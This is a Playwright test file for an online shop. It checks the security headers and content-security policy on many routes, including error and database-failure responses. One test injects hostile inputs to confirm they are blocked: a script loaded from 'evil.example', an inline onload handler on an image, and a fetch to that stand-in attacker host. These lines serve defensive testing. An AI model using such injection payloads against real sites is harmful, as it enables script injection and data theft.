import { createHash } from 'node:crypto';
import { openNetworkProxy } from '#tests/support/network-proxy.ts';
import { plainBoot } from './support/demo-products.ts';
import { expect, test } from './support/fixtures.ts';
import { openSecondServer } from './support/second-server.ts';

/** One path for each kind of answer, including errors and redirects. */
const ADDRESSES = [
  '/',
  '/products',
  '/products?page=2',
  `/products/${plainBoot.slug}`,
  '/categories/mens',
  '/brands',
  '/brands/stringybark',
  '/search?q=boots',
  '/cart',
  '/loading',
  '/offline',
  '/stores',
  '/stores/newtown',
  '/checkout',
  '/checkout/contact-info',
  '/checkout/shipping',
  '/checkout/payment',
  '/checkout/success',
  '/checkout/error',
  '/orders',
  '/orders/SB123456789',
  '/return',
  '/return/guest/create',
  '/privacy-choices',
  '/wishlist',
  '/reminders/confirm',
  '/reminders/stop',
  '/newsletter/confirm',
  '/newsletter/unsubscribe/AbCdEfGhIjKlMnOpQrStUv',
  '/wishlist/shared',
  '/account',
  '/account/contact-info',
  '/account/addresses',
  '/account/orders',
  '/account/orders/SB123456789',
  '/account/orders/SB123456789/return/T0K.EN',
  '/account/password/change',
  '/account/password/forgot',
  '/account/password/reset',
  '/account/payment-methods',
  '/account/qantas',
  '/account/wishlist',
  '/account/signin',
  '/account/signout',
  '/account/signup',
  '/account/verify',
  '/payments/sandbox/paypal',
  '/payments/sandbox/afterpay',
  '/emails',
  '/sitemap.xml',
  '/sitemaps/0.xml',
  '/robots.txt',
  '/icon.svg',
  '/social/brand',
  '/media/no-such-picture.svg',
  '/pictures/no-such-picture.webp',
  '/thumbnails/no-such-picture.jpg',
  '/api/health',
  '/api/health/ready',
  '/api/account',
  '/api/no-such-call',
  '/no-such-page',
  '/cart/',
  '/_next/image',
  '/_next/static/no-such-file.js',
];

/** Pages opened with a secret in the address. */
const SECRET = new Set([
  '/account/orders/SB123456789/return/T0K.EN',
  '/account/password/reset',
  '/account/verify',
  '/checkout/payment',
  '/payments/sandbox/afterpay',
  '/payments/sandbox/paypal',
  '/reminders/confirm',
  '/reminders/stop',
  '/newsletter/confirm',
  '/newsletter/unsubscribe/AbCdEfGhIjKlMnOpQrStUv',
]);

/** Pictures, which e-mails and other sites show. */
const PICTURES = /^\/(?:icon|social|media|pictures|thumbnails)\b/;

/** What has a policy of its own, for what it shows. */
const OWN_POLICY = new Set(['/emails']);

/** What every answer says of itself, whatever it is; `picture`: it may be shown by other sites. */
const saidOfAll = ({ secret = false, picture = false } = {}) => ({
  'x-content-type-options': 'nosniff',
  'content-security-policy': expect.stringMatching(/^default-src 'none'; .*frame-ancestors 'none'/),
  'x-frame-options': 'DENY',
  'cross-origin-opener-policy': 'same-origin',
  'cross-origin-resource-policy': picture
    ? expect.stringMatching(/^(?:same|cross)-origin$/)
    : 'same-origin',
  'permissions-policy': expect.stringContaining('camera=()'),
  // The tested shop's public address is https.
  'strict-transport-security': 'max-age=63072000',
  'referrer-policy': secret ? 'no-referrer' : 'strict-origin-when-cross-origin',
  ...(secret && { 'cache-control': 'no-store' }),
});

// One test for all: a test of its own for each costs a browser page each.
test('every answer says what a browser may not do with it', async ({ request }) => {
  test.slow();
  for (const address of ADDRESSES) {
    const answer = await request.get(address, { maxRedirects: 0 });
    const headers = answer.headers();
    const isPage = headers['content-type']?.startsWith('text/html');
    const [secret, picture] = [SECRET.has(address), PICTURES.test(address)];
    expect.soft(headers, address).toMatchObject(saidOfAll({ secret, picture }));
    const policy = headers['content-security-policy'] ?? '';
    if (OWN_POLICY.has(address)) continue;
    expect.soft(policy, address).not.toMatch(/script-src[^;]*(?:unsafe|\*|https?:)/);
    if (isPage) {
      expect.soft(policy, address).toContain("script-src 'self'");
      expect.soft(policy, address).toContain("require-trusted-types-for 'script'");
      expect.soft(headers['reporting-endpoints'], address).toBe('csp="/api/csp-reports"');
      const html = await answer.text();
      for (const [, code = ''] of html.matchAll(/<script>([\s\S]+?)<\/script>/g)) {
        const hash = createHash('sha256').update(code).digest('base64');
        expect.soft(policy, `${address} ${code.slice(0, 60)}`).toContain(`'sha256-${hash}'`);
      }
      // A page that is reached by a secret has its data with it, and nowhere else.
      if (SECRET.has(address)) expect.soft(html, address).not.toContain('src="/_page/');
      else if (answer.ok()) expect.soft(html, address).toContain('src="/_page/');
    } else {
      expect.soft(policy, address).not.toContain("'self'");
    }
  }
});

/** Answers that need the database: pages that were never rendered, and calls. */
const NEED_DATABASE = [
  '/products/never-rendered-headers',
  '/stores/never-rendered-headers',
  '/api/promotions/codes/TRACK10',
  '/api/payment/voucher/balance/GUM-TREE-50?pin=2050',
];

test('an answer that says that the shop has failed says so too', async () => {
  const ownDatabase = process.env.DATABASE_URL ?? '';
  const network = await openNetworkProxy(ownDatabase);
  // Every server has this database: it is there, and has none of the shop's tables.
  const foreign = new URL('/postgres', ownDatabase).href;
  const cutOff = await openSecondServer(network.url);
  const misled = await openSecondServer(foreign);
  try {
    await network.cut();
    for (const [server, status] of [
      [cutOff, 503],
      [misled, 500],
    ] as const) {
      for (const address of NEED_DATABASE) {
        const answer = await fetch(server.baseUrl + address);
        const what = `${address} ${answer.status}`;
        expect.soft(answer.status, what).toBe(status);
        const headers = Object.fromEntries(answer.headers);
        expect.soft(headers, what).toMatchObject(saidOfAll());
        expect
          .soft(headers['content-security-policy'], what)
          .not.toMatch(/script-src|'self'|https?:/);
        expect.soft(headers['cache-control'], what).toBe('no-store');
      }
    }
  } finally {
    await cutOff.stop();
    await misled.stop();
    await network.close();
  }
});

// Every other test fails too if the policy stops something of the shop's: that is an error in the
// console.
test('what gets into a page can neither run nor send anything', async ({ context }) => {
  // Not the test's own page: what is stopped here is an error in its console.
  const page = await context.newPage();
  const stopped: string[] = [];
  await page.exposeFunction('noteStopped', (what: string) => stopped.push(what));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      const { noteStopped } = window as unknown as { noteStopped: (what: string) => void };
      noteStopped(`${effectiveDirective} ${blockedURI}`);
    });
  });
  await page.goto(`/products/${plainBoot.slug}`);
  const happened = await page.evaluate(async () => {
    const refused: string[] = [];
    const attempt = (name: string, act: () => void) => {
      try {
        act();
      } catch {
        refused.push(name);
      }
    };
    const script = document.createElement('script');
    attempt('code of a script', () => {
      script.textContent = 'window.stolen = 1';
    });
    attempt('address of a script', () => {
      script.src = 'https://evil.example/x.js';
    });
    const part = document.createElement('div');
    part.innerHTML = '<img src="/icon.svg?" onload="window.stolen = 2">';
    document.body.append(part);
    await (part.firstElementChild as HTMLImageElement).decode();
    await fetch('https://evil.example/').catch(() => refused.push('call'));
    return { refused, stolen: (window as { stolen?: number }).stolen ?? null };
  });
  expect(happened).toEqual({
    refused: ['code of a script', 'address of a script', 'call'],
    stolen: null,
  });
  await expect.poll(() => stopped.sort().join('\n')).toContain('connect-src https://evil.example/');
  expect(stopped.join('\n')).toContain('script-src-attr inline');
});
